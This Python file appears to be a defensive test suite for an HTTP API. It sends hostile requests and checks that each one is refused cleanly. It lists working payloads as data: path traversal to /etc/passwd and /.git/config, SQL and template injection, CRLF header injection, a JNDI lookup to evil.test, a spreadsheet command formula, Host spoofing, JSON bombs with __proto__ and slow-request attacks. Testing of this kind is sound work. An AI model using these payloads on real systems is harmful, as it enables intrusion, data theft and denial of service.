"""Odd requests: paths, ids, headers, bodies and methods that nobody means well with."""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from uuid import UUID

from attacks.attack import attack, demand, variants
from attacks.wire import Answer
from attacks.world import DRAFT, World

TRAVERSALS = {
    "dots": "/v1/../../../../etc/passwd",
    "dots below a session": "/v1/sessions/../../etc/passwd",
    "coded dots": "/v1/%2e%2e/%2e%2e/etc/passwd",
    "coded slashes": "/docs/..%2f..%2f..%2fetc%2fpasswd",
    "twice coded": "/docs/%252e%252e%252fetc%252fpasswd",
    "backslashes": "/docs/..\\..\\etc\\passwd",
    "overlong UTF-8": "/docs/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "two slashes": "//etc/passwd",
    "a file URL": "/file:///etc/passwd",
    "another drive": "/docs/C:/windows/win.ini",
    "NUL and a suffix": "/docs/swagger-ui.css%00.png",
    "the document's folder": "/docs/../docs/start.js/../../openapi.yaml",
    "a hidden file": "/.env",
    "a repository": "/.git/config",
    "metrics": "/metrics",
    "readiness": "/readyz",
    "metrics below v1": "/v1/metrics",
    "a parameter in the path": "/v1/sessions/..;/admin/audit",
    "admin by two slashes": "/v1//admin/audit",
    "admin by dots": "/v1/health/../admin/audit",
    "admin with a blank": "/v1/admin%20/audit",
    "admin in capitals": "/V1/ADMIN/audit",
    "a slash at the end": "/v1/me/",
}


@variants("path", TRAVERSALS)
async def traversal(world: World, target: str) -> None:
    """Nothing is at such an address, and no address means a file."""
    answer = await world.raw(target, [f"Authorization: Bearer {world.mallory.token}"])
    world.check(answer, 404, "NOT_FOUND", hides=["root:", target[:60]])


def odd_ids(session: str) -> dict[str, str]:
    """Ids that some normalisation would turn into a session's."""
    plain = session.replace("-", "")
    wide = "".join(chr(0xFF10 + int(c)) if c.isdigit() else c for c in session)
    return {
        "without hyphens": plain,
        "in braces": f"%7B{session}%7D",
        "as a URN": f"urn:uuid:{session}",
        "with wide digits": "".join(f"%{byte:02x}" for byte in wide.encode()),
        "with Arabic digits": "%d9%a1" * 8 + session[8:],
        "with a line feed": f"{session}%0a",
        "with a line feed before": f"%0a{session}",
        "with NUL": f"{session}%00",
        "with a blank": f"%20{session}",
        "with a zero-width joiner": f"{session}%e2%80%8d",
        "with a byte order mark": f"%ef%bb%bf{session}",
        "right to left": f"%e2%80%ae{session}",
        "with a soft hyphen": session.replace("-", "%c2%ad", 1),
        "with long dashes": session.replace("-", "%e2%80%93"),
        "bytes that are no UTF-8": "%ff%fe" + session,
        "half a surrogate pair": "%ed%a0%80" + session,
        "SQL": f"{session}'%20OR%20'1'='1",
        "a wildcard": "%25",
        "a star": "*",
        "a number": str(UUID(session).int),
        "8 KB": "a" * 8000,
        "two": f"{session},{session}",
        "a template": "{{7*7}}",
        "a JSON": "%7B%22$gt%22:%22%22%7D",
    }


IDS = {name: name for name in odd_ids("1c261e4b-7009-482a-928e-5b1b46700c99")}


@variants("id", IDS)
async def odd_id(world: World, name: str) -> None:
    """Even its owner's session answers to its own id only."""
    odd = odd_ids(world.session_id)[name]
    owner = [f"Authorization: Bearer {world.alice.token}"]
    hides = [odd[-60:]] if len(odd) > 8 else []
    answer = await world.raw(f"/v1/sessions/{odd}", owner)
    world.check(answer, 400, "INVALID_SESSION_ID", hides=hides)
    answer = await world.raw(f"/v1/jobs/{odd}/events", owner)
    world.check(answer, 400, "VALIDATION_ERROR", hides=hides)


INJECTIONS = {
    "a coded line in the path": ("/v1/%0d%0aSet-Cookie:%20x=1", []),
    "a coded line in the query": ("/v1/sessions?limit=%0d%0aSet-Cookie:%20x=1", []),
    "a coded line in the request id": ("/v1/me", ["X-Request-Id: a%0d%0aSet-Cookie: x=1"]),
    "a request id of markup": ("/v1/me", ["X-Request-Id: <script>alert(1)</script>"]),
    "a request id of 10 KB": ("/v1/me", ["X-Request-Id: " + "a" * 10_000]),
    "a request id of UTF-8": ("/v1/me", ["X-Request-Id: dé\u2028ja"]),
    "a traceparent of nonsense": ("/v1/me", ["traceparent: 00-" + "z" * 500, "tracestate: \u2603"]),
    "baggage": ("/v1/me", ["baggage: user=admin;x=" + "a" * 9000]),
    "an origin of two lines": ("/v1/me", ["Origin: https://a.test%0d%0aX: y"]),
    "a time zone of a path": ("/v1/me", ["X-Timezone: ../../../etc/passwd"]),
    "a language of a formula": ("/v1/me", ["Accept-Language: =cmd|'/c calc'!A1"]),
    "a lookup in the agent": ("/v1/me", ["User-Agent: ${jndi:ldap://evil.test/x}"]),
}


@variants("header", INJECTIONS)
async def injected(world: World, row: tuple[str, list[str]]) -> None:
    """Nothing that was sent becomes a header of the answer, or a word in it."""
    target, headers = row
    answer = await world.raw(target, headers)
    demand(answer.status in {400, 401, 404}, f"{answer.status} came")
    demand(answer.header("set-cookie") is None, "a cookie was injected")
    code = {400: "VALIDATION_ERROR", 401: "UNAUTHORIZED", 404: "NOT_FOUND"}[answer.status]
    world.check(answer, answer.status, code, hides=["Set-Cookie", "<script", "jndi", "etc/passwd"])


HOSTS = {
    "another": ["Host: evil.test"],
    "with a path": ["Host: evil.test/x"],
    "forwarded": [
        "X-Forwarded-Host: evil.test",
        "X-Forwarded-Proto: https",
        "Forwarded: host=evil.test",
    ],
    "with credentials": ["Host: user:pass@evil.test"],
    "a rewritten URL": ["X-Original-URL: /v1/admin/audit", "X-Rewrite-URL: /v1/admin/audit"],
}


@variants("host", HOSTS)
async def host(world: World, headers: list[str]) -> None:
    """No answer is made of the host that a client claims, and no header is another path."""
    for target in ("/v1/health", "/openapi.json", "/docs", "/v1/me", "/v1/nothing"):
        lines = [f"GET {target} HTTP/1.1", "Connection: close"]
        if not headers[0].startswith("Host"):
            lines.append("Host: localhost")
        head = "\r\n".join([*lines, *headers]).encode() + b"\r\n\r\n"
        (answer,) = (await world.bytes([head])).answers
        expected = {"/v1/me": 401, "/v1/nothing": 404}.get(target, 200)
        demand(answer.status in {expected, 400}, f"{answer.status} for {target}")
        demand("evil.test" not in answer.text, f"{target} repeats the host")
        demand(all("evil.test" not in value for _, value in answer.headers), "a header repeats it")


METHODS = {
    "X-HTTP-Method-Override": ["X-HTTP-Method-Override: DELETE"],
    "X-HTTP-Method": ["X-HTTP-Method: DELETE"],
    "X-Method-Override": ["X-Method-Override: DELETE"],
    "the query": [],
}


@variants("method override by", METHODS)
async def overridden(world: World, headers: list[str]) -> None:
    """A read stays a read."""
    target = f"/v1/sessions/{world.session_id}?_method=DELETE&method=DELETE"
    owner = f"Authorization: Bearer {world.alice.token}"
    answer = await world.raw(target, [owner, *headers])
    demand(answer.status == 200, f"{answer.status} came: it was no read any more")
    still = await world.send("GET", f"/v1/sessions/{world.session_id}", world.alice.headers)
    demand(still.status == 200, "the session is gone")


ODD_METHODS = ("TRACE", "CONNECT", "PROPFIND", "DEBUG", "PURGE", "LOCK", "SEARCH")


@variants("method", {name: name for name in ODD_METHODS})
async def odd_method(world: World, method: str) -> None:
    """Not taken, and a TRACE repeats nothing."""
    target = world.url.removeprefix("http://") if method == "CONNECT" else "/v1/me"
    headers = [f"Authorization: Bearer {world.mallory.token}", "X-Secret: s3cr3t-header"]
    answer = await world.raw(target, headers, method=method)
    demand(answer.status in {400, 404, 405}, f"{answer.status} came")
    world.check_silent(answer, ["s3cr3t-header", world.mallory.token])


async def draft(world: World, body: bytes, kind: str = "application/json") -> Answer:
    """A draft of the attacker's own."""
    headers = {**world.mallory.headers, "Content-Type": kind}
    return await world.send("POST", "/v1/sessions", headers, content=body)


def with_field(name: str, raw: str) -> bytes:
    """A good draft with one more field, written as it stands."""
    return (json.dumps(DRAFT)[:-1] + f', "{name}": {raw}}}').encode()


BOMBS = {
    "200,000 lists deep": b'{"title":' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "200,000 lists without an end": b"[" * 200_000,
    "40,000 objects deep": b'{"a":' * 40_000 + b"1" + b"}" * 40_000,
    "deep in a field nobody knows": with_field("x", "[" * 20_000 + "]" * 20_000),
    "a number of 200,000 digits": with_field("solfeggioHz", "9" * 200_000),
    "an exponent without an end": with_field("solfeggioHz", "1e99999999"),
    "a number of 200,000 digits in a field nobody knows": with_field("x", "9" * 200_000),
    "a field twice": with_field("title", '"another"'),
    "20,000 times one field": b"{" + b'"title":"a",' * 20_000 + b'"title":"b"}',
    "a field twice deep inside": with_field("x", '{"a": {"b": 1, "b": 2}}'),
    "__proto__": with_field("__proto__", '{"admin": true}') + b"x",
    "NaN": with_field("solfeggioHz", "NaN"),
    "Infinity": with_field("frequencyHz", "-Infinity"),
    "a NUL": with_field("goalTag", '"sl\\u0000eep"'),
    "a raw NUL": with_field("goalTag", '"sl\x00eep"'),
    "half a surrogate pair": with_field("goalTag", '"\\ud800"'),
    "bytes that are no UTF-8": b'{"title": "\xff\xfe"}',
    "UTF-16": json.dumps(DRAFT).encode("utf-16"),
    "two documents": json.dumps(DRAFT).encode() * 2,
    "comments": b"/* x */" + json.dumps(DRAFT).encode(),
    "gzip": gzip.compress(json.dumps(DRAFT).encode()),
}


@variants("JSON", BOMBS)
async def bomb(world: World, body: bytes) -> None:
    """Refused quickly, and nothing of it comes back."""
    answer = await draft(world, body)
    big = len(body) > 256 * 1024
    expected = (413, "PAYLOAD_TOO_LARGE") if big else (400, "VALIDATION_ERROR")
    world.check(answer, *expected, hides=["another", DRAFT["title"] + '"', "9" * 50, "[[[["])


KINDS = {
    "text": "text/plain",
    "a form": "application/x-www-form-urlencoded",
    "a multipart without a boundary": "multipart/form-data",
    "XML": "application/xml",
    "another character set": "application/json; charset=utf-7 \u2603",
    "8 KB": "application/" + "a" * 8000,
    "a list": "application/json, text/html",
    "nothing": " ",
    "markup": "<script>",
    "a pickle": "application/x-python-pickle",
}


@variants("content type", KINDS)
async def odd_kind(world: World, kind: str) -> None:
    """A body is JSON or it is refused; a character set is not chosen by the sender."""
    owner = f"Authorization: Bearer {world.mallory.token}"
    body = json.dumps({**DRAFT, "voiceId": 7}).encode()
    length = f"Content-Length: {len(body)}"
    answer = await world.raw(
        "/v1/sessions", [owner, length, f"Content-Type: {kind}"], body, method="POST"
    )
    world.check(answer, 400, "VALIDATION_ERROR", hides=["<script", "a" * 100])


@attack("10 MB, as declared")
async def oversized(world: World) -> None:
    """Refused by what it says it is."""
    answer = await draft(world, b"[" + b" " * 10_000_000 + b"]")
    world.check(answer, 413, "PAYLOAD_TOO_LARGE")


@attack("10 MB, in chunks of no declared length")
async def endless(world: World) -> None:
    """Refused while it streams."""
    host_name = world.url.removeprefix("http://")
    head = (
        f"POST /v1/sessions HTTP/1.1\r\nHost: {host_name}\r\nTransfer-Encoding: chunked\r\n"
        f"Authorization: Bearer {world.mallory.token}\r\nContent-Type: application/json\r\n\r\n"
    )

    def pieces() -> Iterator[bytes]:
        yield head.encode()
        for _ in range(1000):
            yield b"2800\r\n" + b" " * 0x2800 + b"\r\n"

    found = await world.bytes(pieces())
    demand([one.status for one in found.answers] == [413], f"{found.answers[:1]} came")


HEADERS = {
    "one of 64 KB": ["X-A: " + "a" * 65_536],
    "4,000 of them": [f"X-{n}: {'a' * 10}" for n in range(4000)],
    "a cookie of 64 KB": ["Cookie: " + "a=b; " * 13_000],
}


@variants("headers", HEADERS)
async def long_headers(world: World, headers: list[str]) -> None:
    """More than a server reads of a stranger."""
    answer = await world.raw("/v1/health", headers)
    demand(answer.status in {400, 431}, f"{answer.status} came")
    world.check_silent(answer)


@attack("a URL of 64 KB")
async def long_url(world: World) -> None:
    """The same for what stands in the first line."""
    answer = await world.raw("/v1/sessions?x=" + "a" * 65_536)
    demand(answer.status in {400, 414, 431}, f"{answer.status} came")
    world.check_silent(answer)


RANGES = {
    "beyond all numbers": f"bytes={'9' * 30}-",
    "1,000 of them": "bytes=" + ",".join("0-" for _ in range(1000)),
    "overlapping": "bytes=0-100,0-101,0-102",
    "backwards": "bytes=100-1",
    "negative": "bytes=--5",
    "another unit": "lines=1-2",
    "nonsense": "bytes=\u2603-",
}


@variants("range", RANGES)
async def ranges(world: World, value: str) -> None:
    """The answers here are whole: a range multiplies nothing."""
    for target in ("/openapi.json", "/v1/catalog/voices", "/docs/swagger-ui.css"):
        whole = await world.raw(target)
        answer = await world.raw(target, [f"Range: {value}"])
        demand(answer.status in {200, 400, 416}, f"{answer.status} came")
        demand(len(answer.body) <= len(whole.body), "more came than there is")
        world.check_silent(Answer(answer.status, answer.headers, b""))


@attack("a body at one byte a second", patient=True)
async def slow_body(world: World) -> None:
    """Given up after 15 s at the latest, with a clear answer or a closed door."""
    host_name = world.url.removeprefix("http://")
    head = (
        f"POST /v1/sessions HTTP/1.1\r\nHost: {host_name}\r\nContent-Length: 1000\r\n"
        f"Authorization: Bearer {world.mallory.token}\r\nContent-Type: application/json\r\n\r\n"
    )
    found = await world.bytes([head.encode(), *[b"{"] * 40], pause=1.0, seconds=25)
    statuses = [one.status for one in found.answers]
    demand(statuses in ([], [408], [503]), f"{statuses} came")
    demand(statuses or found.closed, "it is waited for without an end")


@attack("headers at one byte a second", patient=True)
async def slow_headers(world: World) -> None:
    """A connection that never asks anything is not kept for ever."""
    head = [b"GET /v1/health HTTP/1.1\r\n", *[b"X"] * 60]
    found = await world.bytes(head, pause=1.0, seconds=45)
    demand(found.closed, "the connection is held open")
